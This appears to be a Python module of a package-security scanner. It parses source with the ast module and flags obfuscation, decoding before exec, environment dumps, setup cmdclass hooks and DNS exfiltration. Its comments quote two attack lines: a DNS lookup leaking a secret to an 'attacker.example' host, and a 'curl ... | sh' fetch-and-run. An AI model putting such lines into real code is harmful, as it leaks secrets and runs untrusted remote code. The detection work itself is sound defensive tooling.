"""The fast front-end: the same capability facts as `_facts.cst_facts`, from CPython's `ast`.

libcst with scope and qualified-name metadata costs about 10 ms per KiB of source, which is
right for the code pip runs (setup.py, build backends) and wrong for the megabytes of
modules in numpy or botocore. This front-end resolves names the way that matters here —
through the file's imports (`import base64 as b`, `from os import system as s`) — and runs
about 30 times faster, so large packages are scanned in full.
"""

from __future__ import annotations

import ast

from pkgvet.analyzer._facts import (
    ENVIRON_NAMES,
    MAIN,
    MESSAGE_CAPS,
    MODULE,
    NETWORK_READ_ATTRS,
    SUSPICIOUS_METHODS,
    FileFacts,
    catalog,
    embedded_candidate,
    is_blob,
    is_message_call,
    junk_identifier,
    sink_kinds,
)

BUILTINS = frozenset(
    {
        "exec",
        "eval",
        "compile",
        "open",
        "__import__",
        "execfile",
        "getattr",
        "globals",
        "vars",
        "chr",
        "bytes",
        "bytearray",
    }
)


class _AstCollector(ast.NodeVisitor):
    def __init__(self, out: FileFacts) -> None:
        self.out = out
        self.cat = catalog()
        self.aliases: dict[str, str] = {}
        self.scopes: list[str] = [MODULE]
        self.classes: list[str] = []
        self.assignments: dict[tuple[str, str], list[ast.expr]] = {}
        self.exec_calls: list[tuple[ast.Call, str, str, str]] = []
        self.helpers: set[str] = set()
        self.messages = 0
        """1 while visiting the arguments of a message call (print, log, an exception)."""

    @property
    def scope(self) -> str:
        return self.scopes[-1]

    # names ---------------------------------------------------------------------------------
    def qualify(self, node: ast.expr) -> str | None:
        parts: list[str] = []
        while isinstance(node, ast.Attribute):
            parts.append(node.attr)
            node = node.value
        if not isinstance(node, ast.Name):
            return None
        head = self.aliases.get(node.id)
        if head is None:
            head = f"builtins.{node.id}" if node.id in BUILTINS else node.id
        return ".".join([head, *reversed(parts)])

    def visit_Import(self, node: ast.Import) -> None:
        for alias in node.names:
            if alias.asname:
                self.aliases[alias.asname] = alias.name
            else:
                top = alias.name.split(".")[0]
                self.aliases[top] = top

    def visit_ImportFrom(self, node: ast.ImportFrom) -> None:
        if node.module and not node.level:
            for alias in node.names:
                self.aliases[alias.asname or alias.name] = f"{node.module}.{alias.name}"

    # structure -----------------------------------------------------------------------------
    def visit_ClassDef(self, node: ast.ClassDef) -> None:
        bases = [q for q in (self.qualify(b) for b in node.bases) if q]
        self.out.classes[node.name] = bases
        if junk_identifier(node.name):
            self.out.add("junk_names", node.lineno, self.scope, node.name, node.col_offset)
        self.classes.append(node.name)
        self.generic_visit(node)
        self.classes.pop()

    def _function(self, node: ast.FunctionDef | ast.AsyncFunctionDef) -> None:
        key = ".".join([*self.classes, node.name]) if self.classes else node.name
        if self.scope not in (MODULE, MAIN):
            key = f"{self.scope}.{key}"
        self.out.functions.setdefault(node.name, key)
        self.out.calls.setdefault(key, set())
        if junk_identifier(node.name):
            self.out.add("junk_names", node.lineno, self.scope, node.name, node.col_offset)
        for deco in node.decorator_list:
            if self.qualify(deco) == "atexit.register":
                self.out.calls.setdefault(self.scope, set()).add(node.name)
            self.visit(deco)
        self.scopes.append(key)
        for stmt in node.body:
            self.visit(stmt)
        self.scopes.pop()

    visit_FunctionDef = _function
    visit_AsyncFunctionDef = _function

    def visit_If(self, node: ast.If) -> None:
        test = node.test
        if (
            self.scope == MODULE
            and isinstance(test, ast.Compare)
            and isinstance(test.left, ast.Name)
            and test.left.id == "__name__"
        ):
            self.visit(test)
            self.scopes.append(MAIN)
            for stmt in node.body:
                self.visit(stmt)
            self.scopes.pop()
            for stmt in node.orelse:
                self.visit(stmt)
            return
        self.generic_visit(node)

    def visit_Name(self, node: ast.Name) -> None:
        if junk_identifier(node.id):
            self.out.add("junk_names", node.lineno, self.scope, node.id, node.col_offset)

    def visit_Assign(self, node: ast.Assign) -> None:
        for target in node.targets:
            if isinstance(target, ast.Name):
                self.assignments.setdefault((self.scope, target.id), []).append(node.value)
        self.generic_visit(node)

    def visit_AugAssign(self, node: ast.AugAssign) -> None:
        if isinstance(node.target, ast.Name):
            self.assignments.setdefault((self.scope, node.target.id), []).append(node.value)
        self.generic_visit(node)

    def visit_Subscript(self, node: ast.Subscript) -> None:
        sl = node.slice
        if (
            isinstance(sl, ast.Slice)
            and sl.lower is None
            and sl.upper is None
            and isinstance(sl.step, ast.UnaryOp)
            and isinstance(sl.step.op, ast.USub)
        ):
            self.out.add("reverse", node.lineno, self.scope, "[::-1]", node.col_offset)
        self.generic_visit(node)

    def visit_Expr(self, node: ast.Expr) -> None:
        # A bare string statement is a docstring or a comment in disguise: it never runs.
        if isinstance(node.value, ast.Constant) and isinstance(node.value.value, str):
            return
        self.generic_visit(node)

    def visit_Constant(self, node: ast.Constant) -> None:
        value = node.value
        if isinstance(value, bytes):
            value = value.decode("latin-1")
        if not isinstance(value, str) or len(value) < 3:
            return
        probe = value[:4096]
        for cap in self.cat.literal_caps(probe):
            if self.messages and cap in MESSAGE_CAPS:
                continue
            self.out.add(f"lit:{cap}", node.lineno, self.scope, value[:200], node.col_offset)
        if is_blob(value):
            self.out.add("blob", node.lineno, self.scope, f"{len(value)} chars", node.col_offset)
        if embedded_candidate(value):
            self.out.embedded.append((node.lineno, self.scope, value))

    # calls ---------------------------------------------------------------------------------
    def call_caps(self, node: ast.Call) -> tuple[set[str], str, str]:
        qualified = self.qualify(node.func) or ""
        caps = set(self.cat.caps_for(qualified)) if qualified else set()
        if not caps and qualified.startswith("builtins."):
            caps = set(self.cat.caps_for(qualified[len("builtins.") :]))
        simple = (
            node.func.attr
            if isinstance(node.func, ast.Attribute)
            else (node.func.id if isinstance(node.func, ast.Name) else "")
        )
        if not caps and isinstance(node.func, ast.Attribute) and simple in SUSPICIOUS_METHODS:
            caps.add(SUSPICIOUS_METHODS[simple])
        return caps, qualified, simple

    def visit_Call(self, node: ast.Call) -> None:
        caps, qualified, simple = self.call_caps(node)
        line, col = node.lineno, node.col_offset
        if simple == "getattr" and node.args and self._is_builtins(node.args[0]):
            self.out.add("builtins_access", line, self.scope, "getattr(builtins, ...)", col)
        if simple == "join" and node.args and _mentions_chr(node.args[0]):
            self.out.add("chr_join", line, self.scope, "''.join(chr(...))", col)
        for arg in node.args:
            if self.qualify(arg) in ENVIRON_NAMES:
                self.out.add("env_dump", line, self.scope, "os.environ", col)
        label = qualified or simple or "<call>"
        if "dns" in caps and node.args and _built_name(node.args[0]):
            # gethostbyname(secret + ".attacker.example"): data leaves in the query name.
            caps.add("dns_exfil")
        for cap in caps:
            self.out.add(cap, line, self.scope, label, col)
        for kind in sink_kinds(caps):
            self.exec_calls.append((node, self.scope, label, kind))
        if simple:
            self.out.calls.setdefault(self.scope, set()).add(simple)
        for kw in node.keywords:
            if kw.arg == "cmdclass":
                for sub in ast.walk(kw.value):
                    if isinstance(sub, ast.Name):
                        self.out.calls.setdefault(MODULE, set()).add(sub.id)
                        self.out.add("cmdclass", line, self.scope, sub.id, col)
        # Literals directly in a message are text for people; a call nested in the message
        # (`print(os.system("curl ... | sh"))`) runs, so its literals count again.
        outer, self.messages = self.messages, int(is_message_call(simple, qualified))
        self.generic_visit(node)
        self.messages = outer

    def _is_builtins(self, node: ast.expr) -> bool:
        if isinstance(node, ast.Name) and node.id in ("__builtins__", "__builtin__"):
            return True
        return self.qualify(node) in ("builtins", "__builtin__")

    # exec sources --------------------------------------------------------------------------
    def resolve_exec_sources(self) -> None:
        scopes = {f.scope for f in self.out.facts if f.cap == "decode"}
        self.helpers = {name for name, key in self.out.functions.items() if key in scopes}
        for call, scope, label, kind in self.exec_calls:
            sources: set[str] = set()
            for arg in call.args[:2]:
                sources |= self._sources(arg, scope, 0)
            for src in sorted(sources):
                self.out.add(f"{kind}_of:{src}", call.lineno, scope, label, call.col_offset)

    def _sources(self, node: ast.expr, scope: str, depth: int) -> set[str]:
        if depth > 4:
            return set()
        found: set[str] = set()
        for seen, sub in enumerate(ast.walk(node)):
            if seen > 400:
                break
            if isinstance(sub, ast.Call):
                caps, qualified, simple = self.call_caps(sub)
                if "decode" in caps or simple in self.helpers:
                    found.add("decode")
                if caps & {"download", "network"}:
                    found.add("download")
                if (
                    simple == "join" and sub.args and _mentions_chr(sub.args[0])
                ) or qualified == "builtins.chr":
                    found.add("chr_join")
            elif isinstance(sub, ast.Attribute) and sub.attr in NETWORK_READ_ATTRS:
                if isinstance(sub.value, ast.Call):
                    caps, _, _ = self.call_caps(sub.value)
                    if caps & {"download", "network"}:
                        found.add("download")
            elif isinstance(sub, ast.BinOp) and isinstance(sub.op, ast.BitXor):
                found.add("xor")
            elif isinstance(sub, ast.Subscript) and isinstance(sub.slice, ast.Slice):
                step = sub.slice.step
                if isinstance(step, ast.UnaryOp) and isinstance(step.op, ast.USub):
                    found.add("reverse")
            elif isinstance(sub, ast.Constant) and isinstance(sub.value, (str, bytes)):
                value = sub.value.decode("latin-1") if isinstance(sub.value, bytes) else sub.value
                if is_blob(value, min_len=60):
                    found.add("blob")
            elif isinstance(sub, ast.Name):
                for assigned in self.assignments.get((scope, sub.id), [])[:4]:
                    found |= self._sources(assigned, scope, depth + 1)
                if scope != MODULE:
                    for assigned in self.assignments.get((MODULE, sub.id), [])[:4]:
                        found |= self._sources(assigned, MODULE, depth + 1)
        return found


def _built_name(node: ast.expr) -> bool:
    """A host name assembled from data: concatenation, f-string, .format() or .join()."""
    if isinstance(node, (ast.BinOp, ast.JoinedStr)):
        return True
    return (
        isinstance(node, ast.Call)
        and isinstance(node.func, ast.Attribute)
        and node.func.attr in ("format", "join")
    )


def _mentions_chr(node: ast.expr) -> bool:
    for seen, sub in enumerate(ast.walk(node)):
        if seen > 200:
            return False
        if isinstance(sub, ast.Name) and sub.id == "chr":
            return True
    return False


def ast_facts(tree: ast.Module) -> FileFacts:
    out = FileFacts()
    collector = _AstCollector(out)
    collector.visit(tree)
    collector.resolve_exec_sources()
    return out
